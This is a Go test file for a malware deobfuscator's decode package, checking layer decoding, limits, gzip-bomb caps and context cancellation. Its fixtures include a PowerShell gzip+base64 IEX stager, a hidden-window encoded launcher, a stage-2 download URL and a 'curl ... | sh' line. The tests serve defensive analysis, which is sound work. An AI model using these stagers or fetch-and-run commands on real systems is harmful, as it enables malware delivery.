package decode

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/automaldesc/automaldesc/analysis/lang"
)

// gzipStage is a PowerShell stager that inflates a gzip+base64 blob.
func gzipStage(blob string) string {
	return "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + blob + "'));" +
		"IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
}

func TestNestedChain(t *testing.T) {
	stage := gzipStage(b64bytes(gzipBytes(t, cradle)))
	bat := "@echo off\r\npowershell -NoP -NonI -W Hidden -enc " + b64u16(stage) + "\r\nexit /b\r\n"
	layers := decodeT(t, bat, lang.Batch)
	checkInvariants(t, layers, DefaultLimits(len(bat)))
	want := []struct {
		method string
		parent int
		lang   lang.Language
	}{
		{MethodOriginal, -1, lang.Batch},
		{"batch.powershell-enc", 0, lang.PowerShell},
		{"ps.gzip", 1, lang.PowerShell},
	}
	if len(layers) < len(want) {
		t.Fatalf("got %d layers, want >= %d:\n%s", len(layers), len(want), dump(layers))
	}
	for i, w := range want {
		l := layers[i]
		if l.Method != w.method || l.Parent != w.parent || l.Language != w.lang {
			t.Errorf("layer %d: got %s <- %d [%v], want %s <- %d [%v]", i, l.Method, l.Parent, l.Language, w.method, w.parent, w.lang)
		}
	}
	if layers[1].Text != stage {
		t.Errorf("layer 1 text: got %q, want the stager", layers[1].Text)
	}
	last := layers[len(layers)-1]
	if !strings.Contains(last.Text, "http://192.0.2.10/stage2.ps1") {
		t.Errorf("last layer: got %q, want the stage-2 URL", last.Text)
	}
	for _, l := range layers {
		if l.Truncated {
			t.Errorf("layer %d (%s): got truncated (%s), want complete", l.Index, l.Method, l.Note)
		}
	}
}

func TestBase64ChainHitsDepth(t *testing.T) {
	s := "id"
	for i := 0; i < 50; i++ {
		s = base64.StdEncoding.EncodeToString([]byte(s))
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute) // a hang guard, not a speed test: -race on a loaded 2-core CI machine is slow
	defer cancel()
	layers, err := Decode(ctx, s, lang.Bash, Options{})
	if err != nil {
		t.Fatalf("Decode: %v", err)
	}
	lim := DefaultLimits(len(s))
	checkInvariants(t, layers, lim)
	if got, want := len(layers), lim.MaxDepth+1; got != want {
		t.Fatalf("got %d layers, want %d (depth limit %d)", got, want, lim.MaxDepth)
	}
	last := layers[len(layers)-1]
	if !last.Truncated || !strings.Contains(last.Note, "depth limit") {
		t.Errorf("last layer: got truncated=%v note %q, want a depth-limit cut", last.Truncated, last.Note)
	}
}

func TestGzipBase64ChainHitsDepth(t *testing.T) {
	s := "echo chain-end"
	for i := 0; i < 50; i++ {
		s = b64bytes(gzipBytes(t, s))
	}
	layers := decodeT(t, s, lang.Unknown)
	checkInvariants(t, layers, DefaultLimits(len(s)))
	if got, want := len(layers), defaultDepth+1; got != want {
		t.Fatalf("got %d layers, want %d", got, want)
	}
	if !layers[len(layers)-1].Truncated {
		t.Errorf("last layer: got not truncated, want a depth-limit cut")
	}
}

// zeroBomb returns a gzip stream of n MiB of zeros (one member per MiB).
func zeroBomb(t testing.TB, n int) []byte {
	t.Helper()
	var member bytes.Buffer
	w, _ := gzip.NewWriterLevel(&member, gzip.BestCompression)
	if _, err := w.Write(make([]byte, 1<<20)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return bytes.Repeat(member.Bytes(), n)
}

func TestGzipBomb(t *testing.T) {
	bomb := zeroBomb(t, 1024) // 1 GiB of zeros
	src := gzipStage(b64bytes(bomb))
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute) // a hang guard, not a speed test: -race on a loaded 2-core CI machine is slow
	defer cancel()
	layers, err := Decode(ctx, src, lang.PowerShell, Options{})
	if err != nil {
		t.Fatalf("Decode: %v", err)
	}
	lim := DefaultLimits(len(src))
	checkInvariants(t, layers, lim)
	var got *Layer
	for i := range layers {
		if layers[i].Method == "ps.gzip" {
			got = &layers[i]
		}
	}
	if got == nil {
		t.Fatalf("got no ps.gzip layer:\n%s", dump(layers))
	}
	if !got.Truncated || got.Size > lim.MaxLayerBytes || !strings.Contains(got.Note, "capped") {
		t.Errorf("bomb layer: got truncated=%v size=%d note %q, want a capped layer <= %d bytes", got.Truncated, got.Size, got.Note, lim.MaxLayerBytes)
	}
}

func TestLargeScript(t *testing.T) {
	var b strings.Builder
	for i := 0; b.Len() < 1<<20; i++ {
		fmt.Fprintf(&b, "$v%d = 'Get-'+'Ch'+'ildItem'; & ([char]73+[char]69+[char]88) \"W`rite-Host %d\" # line\n", i, i)
	}
	src := b.String()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	layers, err := Decode(ctx, src, lang.PowerShell, Options{})
	if err != nil {
		t.Fatalf("Decode of a 1 MB script: %v", err)
	}
	checkInvariants(t, layers, DefaultLimits(len(src)))
	if len(layers) < 2 || !strings.Contains(layers[1].Text, "'Get-ChildItem'") {
		t.Errorf("got %d layers, want a rewrite layer with the folded strings", len(layers))
	}
}

func TestContext(t *testing.T) {
	t.Run("cancelled", func(t *testing.T) {
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		layers, err := Decode(ctx, "powershell -enc "+b64u16(cradle), lang.Batch, Options{})
		if !errors.Is(err, context.Canceled) {
			t.Errorf("got error %v, want context.Canceled", err)
		}
		if len(layers) != 1 || layers[0].Method != MethodOriginal {
			t.Errorf("got %d layers, want just the original", len(layers))
		}
	})
	// A deadline already past. (A 1 ms timeout raced the decoding of the
	// chain below, which takes ~20 ms: on a loaded machine the timer could
	// fire after Decode was done. The subtests after this one end the
	// deadline mid-decoding deterministically.)
	t.Run("deadline", func(t *testing.T) {
		s := "id"
		for i := 0; i < 40; i++ {
			s = base64.StdEncoding.EncodeToString([]byte(s))
		}
		ctx, cancel := context.WithDeadline(context.Background(), time.Now().Add(-time.Millisecond))
		defer cancel()
		start := time.Now()
		layers, err := Decode(ctx, s, lang.Bash, Options{})
		if !errors.Is(err, context.DeadlineExceeded) {
			t.Errorf("got error %v, want context.DeadlineExceeded", err)
		}
		if len(layers) == 0 || layers[0].Method != MethodOriginal {
			t.Errorf("got %d layers, want at least the original", len(layers))
		}
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("got return after %v, want soon after the deadline", d)
		}
	})
	// The deadline ends at chosen points of the decoding (the chain takes
	// 45 checks): Decode stops there with the layers made so far.
	for _, checks := range []int32{1, 3, 10, 30} {
		t.Run(fmt.Sprintf("deadline after %d checks", checks), func(t *testing.T) {
			s := "id"
			for i := 0; i < 40; i++ {
				s = base64.StdEncoding.EncodeToString([]byte(s))
			}
			ctx := &expiringCtx{Context: context.Background()}
			ctx.left.Store(checks)
			start := time.Now()
			layers, err := Decode(ctx, s, lang.Bash, Options{})
			if !errors.Is(err, context.DeadlineExceeded) {
				t.Errorf("got error %v, want context.DeadlineExceeded", err)
			}
			if len(layers) == 0 || layers[0].Method != MethodOriginal {
				t.Errorf("got %d layers, want at least the original", len(layers))
			}
			if d := time.Since(start); d > 5*time.Second {
				t.Errorf("got return after %v, want soon after the deadline", d)
			}
		})
	}
}

// expiringCtx reports context.DeadlineExceeded from the first Err call
// after left others.
type expiringCtx struct {
	context.Context
	left atomic.Int32
}

func (c *expiringCtx) Err() error {
	if c.left.Add(-1) < 0 {
		return context.DeadlineExceeded
	}
	return nil
}

func TestLimits(t *testing.T) {
	many := ""
	for i := 0; i < 20; i++ {
		many += fmt.Sprintf("IEX 'Write-Output number-%02d; Get-Date'\n", i)
	}
	tests := []struct {
		name  string
		input string
		l     lang.Language
		lim   Limits
		check func(t *testing.T, layers []Layer)
	}{
		{"max layers", many, lang.PowerShell, Limits{MaxLayers: 5}, func(t *testing.T, layers []Layer) {
			if len(layers) != 5 {
				t.Fatalf("got %d layers, want 5", len(layers))
			}
			if !layers[0].Truncated || !strings.Contains(layers[0].Note, "layer limit") {
				t.Errorf("layer 0: got truncated=%v note %q, want a layer-limit note", layers[0].Truncated, layers[0].Note)
			}
		}},
		{"max total bytes", many, lang.PowerShell, Limits{MaxTotalBytes: 100}, func(t *testing.T, layers []Layer) {
			cut := false
			for _, l := range layers[1:] {
				cut = cut || l.Truncated && strings.Contains(l.Note, "total")
			}
			if !cut {
				t.Errorf("got no layer cut at the total limit:\n%s", dump(layers))
			}
		}},
		{"max layer bytes", gzipStage(b64bytes(gzipBytes(t, strings.Repeat("Write-Output 'padding padding'\n", 400)))), lang.PowerShell, Limits{MaxLayerBytes: 1000}, func(t *testing.T, layers []Layer) {
			var got *Layer
			for i := range layers {
				if layers[i].Method == "ps.gzip" {
					got = &layers[i]
				}
			}
			if got == nil || !got.Truncated || len(got.Text) > 1000 {
				t.Errorf("got %+v, want a ps.gzip layer capped at 1000 bytes", got)
			}
		}},
		{"max depth 1", "powershell -enc " + b64u16(gzipStage(b64bytes(gzipBytes(t, cradle)))), lang.Batch, Limits{MaxDepth: 1}, func(t *testing.T, layers []Layer) {
			if len(layers) != 2 || !layers[1].Truncated {
				t.Errorf("got %d layers (last truncated=%v), want 2 with the last cut", len(layers), layers[len(layers)-1].Truncated)
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			layers, err := Decode(context.Background(), tt.input, tt.l, Options{Limits: tt.lim})
			if err != nil {
				t.Fatalf("Decode: %v", err)
			}
			lim := Options{Limits: tt.lim}.limits(len(tt.input))
			checkInvariants(t, layers, lim)
			tt.check(t, layers)
		})
	}
}

func TestIdentify(t *testing.T) {
	calls := 0
	id := func(s string) lang.Language {
		calls++
		if strings.HasPrefix(s, "#!/bin/sh") {
			return lang.Bash
		}
		return lang.Unknown
	}
	src := "var p = '" + b64("#!/bin/sh\ncurl http://192.0.2.70/x | sh\n") + "';"
	layers, err := Decode(context.Background(), src, lang.JavaScript, Options{Identify: id})
	if err != nil {
		t.Fatal(err)
	}
	if len(layers) != 2 || layers[1].Language != lang.Bash {
		t.Fatalf("got %d layers (%s), want a generic.base64 layer identified as bash", len(layers), dump(layers))
	}
	// A decoder with a known output language does not ask Identify.
	calls = 0
	layers, err = Decode(context.Background(), "powershell -enc "+b64u16("#!/bin/sh is not bash here"), lang.Batch, Options{Identify: id})
	if err != nil {
		t.Fatal(err)
	}
	if len(layers) < 2 || layers[1].Language != lang.PowerShell || calls != 0 {
		t.Errorf("got language %v after %d Identify calls, want powershell without a call", layers[len(layers)-1].Language, calls)
	}
}

func TestDefaultLimits(t *testing.T) {
	tests := []struct {
		in   int
		want Limits
	}{
		{0, Limits{MaxDepth: 8, MaxTotalBytes: 1 << 20, MaxLayers: 256, MaxLayerBytes: 1 << 20}},
		{1 << 20, Limits{MaxDepth: 8, MaxTotalBytes: 16 << 20, MaxLayers: 256, MaxLayerBytes: 8 << 20}},
		{100 << 20, Limits{MaxDepth: 8, MaxTotalBytes: 64 << 20, MaxLayers: 256, MaxLayerBytes: 16 << 20}},
	}
	for _, tt := range tests {
		t.Run(fmt.Sprint(tt.in), func(t *testing.T) {
			if got := DefaultLimits(tt.in); got != tt.want {
				t.Errorf("got %+v, want %+v", got, tt.want)
			}
		})
	}
}

func TestBinaryInputs(t *testing.T) {
	inputs := map[string]string{
		"nul bytes":       strings.Repeat("\x00", 4096),
		"invalid utf8":    strings.Repeat("\xff\xfe\xc3", 2000),
		"unterminated":    "IEX ('abc" + strings.Repeat("'+'", 3000),
		"deep parens":     strings.Repeat("(", 20000) + "'x'" + strings.Repeat(")", 20000),
		"nested subexpr":  strings.Repeat("\"$(", 5000),
		"broken base64":   "powershell -enc " + strings.Repeat("A", 4001) + "=",
		"bad gzip":        gzipStage(b64("\x1f\x8b\x08 this is not gzip at all, just text")),
		"recursive set":   "set a=xx\n" + strings.Repeat("set a=%a%%a%\n", 40) + "%a%%a%\n",
		"replace blow-up": "$a = '" + strings.Repeat("a", 1000) + "'" + strings.Repeat(".Replace('a','aaaaaaaa')", 12),
	}
	for name, in := range inputs {
		t.Run(name, func(t *testing.T) {
			for _, l := range append(lang.All(), lang.Unknown) {
				ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
				layers, err := Decode(ctx, in, l, Options{})
				cancel()
				if err != nil {
					t.Fatalf("%v: %v", l, err)
				}
				checkInvariants(t, layers, DefaultLimits(len(in)))
			}
		})
	}
}

// TestTextSet: texts of the same length are told apart.
func TestTextSet(t *testing.T) {
	var s textSet
	if s.has("") || s.has("a") {
		t.Fatal("empty set has a text")
	}
	// More than textSetInline texts, so that some are filed by length,
	// the same lengths in place and filed.
	in := []string{"ab", "cd", "", "abc", "ef", "abe", "x", "gh", strings.Repeat("ab", 40)}
	for k, x := range in {
		s.add(x)
		for _, y := range in[:k+1] {
			if !s.has(y) {
				t.Errorf("set of %q lost %q", in[:k+1], y)
			}
		}
	}
	for _, x := range []string{"ac", "a", "abd", "abcd", "ij", "y", strings.Repeat("ab", 39) + "ac"} {
		if s.has(x) {
			t.Errorf("set has %q", x)
		}
	}
}
